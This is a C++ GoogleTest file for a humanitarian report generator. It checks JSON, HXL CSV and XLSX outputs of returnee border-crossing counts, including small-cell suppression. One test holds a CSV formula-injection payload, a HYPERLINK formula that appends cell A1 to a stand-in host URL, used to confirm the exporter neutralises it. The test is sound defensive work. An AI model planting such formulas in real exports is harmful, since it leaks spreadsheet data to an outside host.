#include "report/flash_output.h"

#include <gtest/gtest.h>

#include <filesystem>
#include <fstream>
#include <regex>
#include <sstream>

#include "../testing/flow_tallies.h"
#include "core/csv.h"

namespace sanad::report {
namespace {

using sanad::testing::Tally;

FlashReport Sample(bool by_destination = false) {
  const std::vector<FlowTally> tallies = {
      Tally({2025, 4, 1}, "Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
            "Nangarhar"),
      Tally({2025, 4, 1}, "Torkham", MovementMode::kDeported, 9, {2, 40}, {1, 3, 36, 2}, "Kabul"),
      Tally({2025, 4, 1}, "Chaman–Spin Boldak", MovementMode::kSpontaneous, 20, {70, 60},
            {30, 40, 50, 10}, "Kandahar, city"),
      Tally({2025, 4, 2}, "Torkham", MovementMode::kSpontaneous, 35, {120, 110}, {50, 70, 95, 15},
            "Nangarhar"),
      Tally({2025, 4, 2}, "Chaman–Spin Boldak", MovementMode::kSpontaneous, 18, {66, 54},
            {25, 35, 52, 8}, "Kandahar, city"),
      Tally({2025, 4, 2}, "Torkham", MovementMode::kDeported, 11, {3, 47}, {2, 4, 41, 3}, "Kabul"),
  };
  FlashOptions options;
  options.from = Date{2025, 4, 1};
  options.to = Date{2025, 4, 2};
  options.by_destination = by_destination;
  options.cumulative_since = Date{2025, 3, 1};
  auto report = BuildFlashReport(tallies, {}, options);
  EXPECT_TRUE(report);
  return *report;
}

std::vector<std::vector<std::string>> ReadCsv(const std::string& text) {
  CsvReader reader(text);
  std::vector<std::vector<std::string>> rows;
  std::vector<std::string> fields;
  while (true) {
    auto more = reader.Next(&fields);
    EXPECT_TRUE(more) << more.error().message;
    if (!more || !*more) break;
    rows.push_back(fields);
  }
  return rows;
}

TEST(FlashOutput, JsonRowsHaveTheDocumentedFieldsAndNullForSuppressed) {
  const FlashReport report = Sample();
  const auto json = FlashToJson(report);
  ASSERT_EQ(json["rows"].size(), report.rows.size());
  bool saw_null = false;
  for (const auto& row : json["rows"]) {
    for (const char* field :
         {"date", "crossing_point", "mode", "households", "individuals", "female", "male",
          "age_0_4", "age_5_17", "age_18_59", "age_60_plus", "suppressed"}) {
      EXPECT_TRUE(row.contains(field)) << field;
    }
    std::vector<std::string> nulls;
    for (size_t m = 0; m < kMeasureCount; ++m) {
      const auto& value = row[std::string(MeasureName(m))];
      if (value.is_null()) {
        nulls.emplace_back(MeasureName(m));
      } else {
        EXPECT_TRUE(value.is_number_integer());
      }
    }
    EXPECT_EQ(row["suppressed"].get<std::vector<std::string>>(), nulls);
    saw_null = saw_null || !nulls.empty();
  }
  EXPECT_TRUE(saw_null) << "the sample has small cells (2 deported women on 2025-04-01)";
  // The pyramid says what it shows; the sample has no registered flows.
  const auto& pyramid = json["pyramid"];
  EXPECT_EQ(pyramid["shows"], "registered_flows");
  EXPECT_EQ(pyramid["age_bands"].size(), 4u);
  EXPECT_EQ(pyramid["female"].size(), 4u);
  EXPECT_EQ(pyramid["male"][2], 0);
  EXPECT_EQ(pyramid["total"], 0);
  EXPECT_EQ(json["rows"][0]["date"], "2025-04-01");
  EXPECT_EQ(json["rows"][0]["crossing_point"], "Torkham");
  EXPECT_EQ(json["rows"][0]["mode"], "spontaneous");
  EXPECT_EQ(json["rows"][0]["individuals"], 280);
  EXPECT_EQ(json["disclosure_control"]["k"], 5);
  EXPECT_EQ(json["disclosure_control"]["applied"], true);
  EXPECT_EQ(json["totals"]["by_mode"].size(), 3u);
  EXPECT_TRUE(json["totals"]["cumulative"].is_object());
  EXPECT_TRUE(json["deported_share"].is_number() || json["deported_share"].is_null());
}

TEST(FlashOutput, HxlCsvParsesAsHxl) {
  for (bool by_destination : {false, true}) {
    SCOPED_TRACE(by_destination ? "by destination" : "by crossing point and mode");
    const FlashReport report = Sample(by_destination);
    const auto rows = ReadCsv(FlashToHxlCsv(report));
    ASSERT_EQ(rows.size(), report.rows.size() + 2);
    const auto& header = rows[0];
    const auto& tags = rows[1];
    ASSERT_EQ(tags.size(), header.size());
    // The HXL hashtag row: #tag(+attribute)* in every column.
    const std::regex hashtag("#[a-z][a-z0-9_]*(\\+[a-z][a-z0-9_]*)*");
    for (size_t c = 0; c < tags.size(); ++c) {
      SCOPED_TRACE(header[c]);
      EXPECT_TRUE(std::regex_match(tags[c], hashtag)) << tags[c];
      EXPECT_EQ(tags[c], HxlTag(header[c]));
    }
    EXPECT_EQ(tags[0], "#date");
    EXPECT_EQ(tags[2].rfind("#loc+name", 0), 0u);
    const auto column = [&](std::string_view tag) {
      return static_cast<size_t>(std::find(tags.begin(), tags.end(), tag) - tags.begin());
    };
    EXPECT_LT(column("#affected+returnees+hh"), tags.size());
    EXPECT_LT(column("#affected+returnees+ind"), tags.size());
    EXPECT_LT(column("#affected+returnees+f"), tags.size());
    EXPECT_LT(column("#affected+returnees+m"), tags.size());
    EXPECT_EQ(by_destination, column("#adm1+name+dest") < tags.size());
    const size_t suppressed_column = column("#meta+suppressed");
    ASSERT_LT(suppressed_column, tags.size());
    // Population columns hold whole numbers, or nothing where suppressed.
    for (size_t r = 2; r < rows.size(); ++r) {
      ASSERT_EQ(rows[r].size(), header.size()) << "line " << r + 1;
      EXPECT_TRUE(std::regex_match(rows[r][0], std::regex("\\d{4}-\\d{2}-\\d{2}")));
      for (size_t c = 0; c < tags.size(); ++c) {
        if (tags[c].rfind("#affected", 0) != 0) continue;
        SCOPED_TRACE("line " + std::to_string(r + 1) + " " + header[c]);
        if (rows[r][c].empty()) {
          EXPECT_NE(rows[r][suppressed_column].find(header[c]), std::string::npos);
        } else {
          EXPECT_TRUE(std::regex_match(rows[r][c], std::regex("[0-9]+")));
        }
      }
    }
  }
}

TEST(FlashOutput, XlsxWorkbookIsWritten) {
  const auto path = std::filesystem::temp_directory_path() / "sanad_flash_test.xlsx";
  std::filesystem::remove(path);
  ASSERT_TRUE(WriteFlashXlsx(Sample(), path.string()));
  std::ifstream in(path, std::ios::binary);
  std::stringstream bytes;
  bytes << in.rdbuf();
  const std::string data = bytes.str();
  ASSERT_GT(data.size(), 4000u);
  EXPECT_EQ(data.substr(0, 4), std::string("PK\x03\x04", 4));  // a zip container
  // Three sheets: Summary, Daily flows, Notes (names are stored in clear).
  EXPECT_NE(data.find("xl/worksheets/sheet1.xml"), std::string::npos);
  EXPECT_NE(data.find("xl/worksheets/sheet2.xml"), std::string::npos);
  EXPECT_NE(data.find("xl/worksheets/sheet3.xml"), std::string::npos);
  EXPECT_EQ(data.find("xl/worksheets/sheet4.xml"), std::string::npos);
  std::filesystem::remove(path);
}

TEST(FlashOutput, XlsxBytesForDownload) {
  auto bytes = FlashToXlsx(Sample());
  ASSERT_TRUE(bytes) << bytes.error().message;
  ASSERT_GT(bytes->size(), 4000u);
  EXPECT_EQ(bytes->substr(0, 4), std::string("PK\x03\x04", 4));
}

TEST(FlashOutput, XlsxToAMissingFolderFailsClearly) {
  auto status = WriteFlashXlsx(Sample(), "/nonexistent-folder/flash.xlsx");
  ASSERT_FALSE(status);
  EXPECT_EQ(status.error().code, Error::Code::kUnavailable);
  EXPECT_NE(status.error().message.find("/nonexistent-folder/flash.xlsx"), std::string::npos);
}

// Defect G: a destination typed as a spreadsheet formula reached the
// published CSV as a live formula. Text cells are neutralised; the numbers
// stay numbers.
TEST(FlashOutput, AFormulaInATextCellIsNeutralisedInTheHxlCsv) {
  const std::string formula = "=HYPERLINK(\"http://x.example/?\"&A1,\"Click\")";
  const std::vector<FlowTally> tallies = {
      Tally({2025, 4, 1}, "Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
            formula),
      Tally({2025, 4, 1}, "-Torkham", MovementMode::kSpontaneous, 40, {150, 130}, {60, 90, 110, 20},
            "@Kabul"),
  };
  FlashOptions options;
  options.from = Date{2025, 4, 1};
  options.to = Date{2025, 4, 1};
  options.by_destination = true;
  auto report = BuildFlashReport(tallies, {}, options);
  ASSERT_TRUE(report);
  const std::string csv = FlashToHxlCsv(*report);
  std::istringstream lines(csv);
  std::string line;
  size_t data_lines = 0;
  while (std::getline(lines, line)) {
    SCOPED_TRACE(line);
    for (std::string_view bad : {",=", ",\"=", ",-", ",@", ",+", ",\"@", ",\"-", ",\"+"}) {
      EXPECT_EQ(line.find(bad), std::string::npos);
    }
    if (line.rfind("2025", 0) == 0) ++data_lines;
  }
  EXPECT_EQ(data_lines, 2u);
  EXPECT_NE(csv.find("\"'=HYPERLINK("), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'-Torkham,"), std::string::npos) << csv;
  EXPECT_NE(csv.find(",'@Kabul,"), std::string::npos) << csv;
  // Read back, the cells hold the values as they were, and the counts are numbers.
  const auto rows = ReadCsv(csv);
  ASSERT_EQ(rows.size(), 4u);
  bool seen = false;
  for (const auto& row : rows)
    seen = seen || std::find(row.begin(), row.end(), formula) != row.end();
  EXPECT_TRUE(seen);
  EXPECT_EQ(rows[2][5], "40");
}

// Issue 16: a change from a previous period with no one in it is not a
// suppression; the workbook says it cannot be computed rather than "x".
TEST(FlashOutput, AChangeFromAnEmptyPreviousPeriodIsNotCalledWithheld) {
  const FlashReport report = Sample();
  ASSERT_TRUE(report.previous.figures[kIndividuals]);
  EXPECT_EQ(*report.previous.figures[kIndividuals], 0);
  EXPECT_EQ(ChangeFromPreviousText(report), "not computed: no one crossed in the previous period");
  FlashReport shared = report;
  shared.deported_share = 0.25;
  EXPECT_EQ(DeportedShareText(shared), "");
  FlashReport withheld = report;
  withheld.change_individuals.reset();
  withheld.previous.figures[kIndividuals].reset();
  EXPECT_EQ(ChangeFromPreviousText(withheld), "x");
  withheld.deported_share.reset();
  withheld.total.figures[kIndividuals] = 900;
  EXPECT_EQ(DeportedShareText(withheld), "x");
  FlashReport empty = report;
  empty.deported_share.reset();
  empty.total.figures[kIndividuals] = 0;
  EXPECT_EQ(DeportedShareText(empty), "not computed: no one crossed in this period");
}

}  // namespace
}  // namespace sanad::report
